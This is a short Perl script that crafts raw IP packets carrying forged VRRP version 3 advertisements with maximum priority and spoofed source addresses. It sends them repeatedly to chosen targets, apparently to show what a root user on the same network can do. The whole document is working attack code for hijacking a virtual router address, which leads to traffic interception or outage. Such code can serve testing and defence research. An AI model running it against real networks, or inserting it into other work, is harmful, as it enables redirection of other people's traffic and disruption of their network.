# What somebody with root on a machine of the same network can send: advertisements of VRRP version 3
# (RFC 5798, section 5) with the highest priority, from any address.
use strict; use warnings; use Socket;
my ($seconds, $router, $vip, @ways) = @ARGV; # each FROM,TO
sub sum {
  my $sum = 0;
  $sum += $_ for unpack('n*', length($_[0]) % 2 ? "$_[0]\0" : $_[0]);
  $sum = ($sum >> 16) + ($sum & 0xffff) while $sum >> 16;
  return ~$sum & 0xffff;
}
socket(my $out, PF_INET, SOCK_RAW, 255) or die "socket: $!";
setsockopt($out, 0, 3, pack('i', 1)) or die "IP_HDRINCL: $!";
my ($end, $sent) = (time + $seconds, 0);
while (time < $end) {
  for (@ways) {
    my ($source, $to) = split /,/;
    my $advert = sub { pack('CCCCnn', 0x31, $router, 255, 1, 30, $_[0]) . inet_aton($vip) };
    my $pseudo = inet_aton($source) . inet_aton($to) . pack('nn', 112, length $advert->(0));
    my $body = $advert->(sum($pseudo . $advert->(0)));
    my $head = pack('CCnnnCCn', 0x45, 0xc0, 20 + length $body, 1, 0, 255, 112, 0);
    send($out, $head . inet_aton($source) . inet_aton($to) . $body, 0, sockaddr_in(0, inet_aton($to)))
      and $sent++;
  }
  select undef, undef, undef, 0.05; # the smallest of Debians has no Time::HiRes
}
print "$sent\n";
